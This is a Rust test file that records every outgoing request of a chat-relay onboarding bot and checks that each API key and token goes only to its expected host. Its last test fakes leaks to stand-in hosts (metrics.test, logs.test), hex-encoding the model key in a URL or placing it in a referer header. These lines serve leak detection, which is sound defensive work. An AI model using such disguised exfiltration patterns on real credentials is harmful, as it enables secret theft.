//! What the bot sends to whom: every request is written down, and whose secrets are in it.

use std::collections::BTreeSet;
use std::sync::Arc;

use adapters::{discord, telegram, whatsapp};
use async_trait::async_trait;
use bytes::Bytes;
use parking_lot::Mutex;
use serde_json::Value;
use textslash::http::{SharedTransport, StreamedResponse, Transport, TransportError};
use textslash::sandbox::fly::nothing;

use super::hunt::SecretHunt;
use crate::onboarding::script::ScriptedChannel;
use crate::onboarding::world::ChatWorld;

/// A sender of Ada's own Twilio account.
const RELAYS_NUMBER: &str = "+15550002222";

/// Where every story's secrets must be seen, or the recorder is blind; and nowhere else.
const ALWAYS: [(&str, &str); 7] = [
    ("Fly token, narrowed", "api.fly.io"),
    ("Fly token, narrowed", "api.machines.dev"),
    ("LINK_KEY", "secrets of the relay, at api.machines.dev"),
    ("LINK_KEY", "secrets of the vm, at api.machines.dev"),
    ("OWNER_KEY", "secrets of the relay, at api.machines.dev"),
    ("model key", "api.anthropic.com"),
    ("model key", "secrets of the relay, at api.machines.dev"),
];

/// Writes down every request, and carries it on.
struct EgressRecorder {
    inner: SharedTransport,
    sent: Mutex<Vec<SentPart>>,
}

/// One half of a request: a credential belongs in the head, or is what an app is handed in a body.
struct SentPart {
    to: String,
    content: Vec<u8>,
}

impl EgressRecorder {
    fn new(inner: SharedTransport) -> Arc<Self> {
        Arc::new(Self { inner, sent: Mutex::default() })
    }

    /// Which secret was sent where.
    fn sightings(&self, hunt: &SecretHunt) -> BTreeSet<(String, String)> {
        let sent = self.sent.lock();
        let of_one = |it: &SentPart| {
            let found = hunt.found(&it.content).into_iter();
            found.map(|name| (name.to_owned(), it.to.clone())).collect::<Vec<_>>()
        };
        sent.iter().flat_map(of_one).collect()
    }

    /// What apps were handed, names and values: the keys that the bot made are known from here
    /// only.
    fn handed_over(&self) -> BTreeSet<(String, String)> {
        let sent = self.sent.lock();
        let mut all = BTreeSet::new();
        for it in sent.iter().filter(|it| it.to.starts_with("secrets of")) {
            let body: Value = serde_json::from_slice(&it.content).unwrap();
            for (name, value) in body["values"].as_object().unwrap() {
                all.insert((name.clone(), value.as_str().unwrap().to_owned()));
            }
        }
        all
    }
}

#[async_trait]
impl Transport for EgressRecorder {
    async fn send(
        &self,
        request: http::Request<Bytes>,
    ) -> Result<StreamedResponse, TransportError> {
        let head = SentPart { to: host(&request).to_owned(), content: head(&request) };
        let body = SentPart { to: of_body(&request), content: request.body().to_vec() };
        self.sent.lock().extend([head, body]);
        self.inner.send(request).await
    }
}

fn host(request: &http::Request<Bytes>) -> &str {
    request.uri().authority().map_or("", |authority| authority.as_str())
}

/// Where a body goes; where an app is handed its secrets, which one.
fn of_body(request: &http::Request<Bytes>) -> String {
    let host = host(request);
    match request.uri().path().split('/').collect::<Vec<_>>()[..] {
        ["", "v1", "apps", app, "secrets"] => {
            let role = ["relay", "vm"].into_iter().find(|role| app.contains(&format!("-{role}-")));
            format!("secrets of the {}, at {host}", role.unwrap_or(app))
        }
        _ => format!("a body, at {host}"),
    }
}

fn head(request: &http::Request<Bytes>) -> Vec<u8> {
    let mut head = format!("{} {}\n", request.method(), request.uri()).into_bytes();
    for (name, value) in request.headers() {
        head.extend([name.as_str().as_bytes(), b": ", value.as_bytes(), b"\n"].concat());
    }
    head
}

/// A whole conversation with random credentials, and what was sent in it.
struct EgressStory {
    egress: Arc<EgressRecorder>,
    hunt: SecretHunt,
    model_key: String,
    /// Everything that the bot ever wrote to Ada.
    written: String,
}

/// Ada deploys a relay that speaks this channel, and removes it.
async fn story(service: ScriptedChannel, channel: &str) -> EgressStory {
    let mut egress = None;
    let watch = |network| egress.insert(EgressRecorder::new(network)).clone() as SharedTransport;
    let mut world = ChatWorld::watched(service, watch).await;
    let egress = egress.unwrap();
    world.twilio.add_sender(RELAYS_NUMBER);
    let (token, model_key) = (world.fly.mint_org_token(), world.anthropic.key().to_owned());
    let own_key = match channel {
        "Telegram" => world.telegram.mint_bot("ada_bot"),
        "Discord" => world.discord.mint_bot("ada_bot"),
        "WhatsApp" => format!("{} {}", world.twilio.account_sid(), world.twilio.auth_token()),
        _ => String::new(),
    };
    world.is_deployed_and_removed(&token, &model_key, (channel, &own_key)).await;
    assert_eq!(world.inventory(), nothing());

    let permission = token.split(',').next().unwrap();
    let handed_over = egress.handed_over();
    let made = ["LINK_KEY", "OWNER_KEY"];
    let made = handed_over.iter().filter(|(name, _)| made.contains(&name.as_str()));
    let mut secrets: Vec<_> = made.map(|(name, key)| (name.as_str(), key.as_str())).collect();
    secrets.extend([
        ("Fly token, narrowed", &permission[16..56]),
        // A narrowed token ends in another signature.
        ("Fly token, as it was pasted", &permission[permission.len() - 40..]),
        ("model key", &model_key),
    ]);
    secrets
        .extend(own_key.split(' ').next_back().filter(|it| !it.is_empty()).map(|it| ("own", it)));
    let hunt = SecretHunt::of(&secrets);
    let known = ["Fly token, narrowed", "Fly token, as it was pasted"];
    assert_eq!(hunt.found(token.as_bytes()), known, "the hunt is blind");
    let written = world.script.everything_ever().join("\n");
    EgressStory { egress, hunt, model_key, written }
}

impl EgressStory {
    /// Exactly these sightings, beside those of every story. The one secret that Ada reads is the
    /// key in the link, where she has one.
    fn expect(&self, own: &[(&str, &str)]) {
        let read = if own.is_empty() { vec!["OWNER_KEY"] } else { Vec::new() };
        assert_eq!(self.hunt.found(self.written.as_bytes()), read);
        let expected = ALWAYS.iter().chain(own);
        let expected = expected.map(|(name, to)| ((*name).to_owned(), (*to).to_owned()));
        assert_eq!(self.egress.sightings(&self.hunt), expected.collect());
    }
}

#[tokio::test]
async fn with_a_link_every_secret_goes_where_it_must_and_nowhere_else() {
    story(ScriptedChannel::new(), "").await.expect(&[]);
}

#[tokio::test]
async fn with_a_telegram_bot_every_secret_goes_where_it_must_and_nowhere_else() {
    let service = ScriptedChannel::speaking("telegram", telegram::capabilities(true));
    story(service, "Telegram").await.expect(&[
        ("own", "api.telegram.org"),
        ("own", "secrets of the relay, at api.machines.dev"),
    ]);
}

#[tokio::test]
async fn with_a_discord_bot_every_secret_goes_where_it_must_and_nowhere_else() {
    let service = ScriptedChannel::speaking("discord", discord::capabilities());
    story(service, "Discord")
        .await
        .expect(&[("own", "discord.com"), ("own", "secrets of the relay, at api.machines.dev")]);
}

#[tokio::test]
async fn with_a_twilio_account_every_secret_goes_where_it_must_and_nowhere_else() {
    let service = ScriptedChannel::speaking("whatsapp", whatsapp::capabilities());
    story(service, "WhatsApp").await.expect(&[
        ("own", "api.twilio.com"),
        ("own", "messaging.twilio.com"),
        ("own", "secrets of the relay, at api.machines.dev"),
    ]);
}

#[tokio::test]
async fn a_secret_that_goes_elsewhere_is_seen() {
    let EgressStory { egress, hunt, model_key, .. } = story(ScriptedChannel::new(), "").await;
    let before = egress.sightings(&hunt);
    let disguised = hex::encode(&model_key);
    for request in [
        http::Request::get(format!("https://metrics.test/?seen={disguised}")).body(Bytes::new()),
        http::Request::get("https://logs.test").header("referer", &model_key).body(Bytes::new()),
        http::Request::post("https://api.machines.dev/v1/apps").body(disguised.clone().into()),
    ] {
        let _ = egress.send(request.unwrap()).await;
    }
    let elsewhere = egress.sightings(&hunt).into_iter().filter(|it| !before.contains(it));
    let expected = ["a body, at api.machines.dev", "logs.test", "metrics.test"];
    let expected = expected.map(|to| ("model key".to_owned(), to.to_owned()));
    assert_eq!(elsewhere.collect::<Vec<_>>(), expected);
}
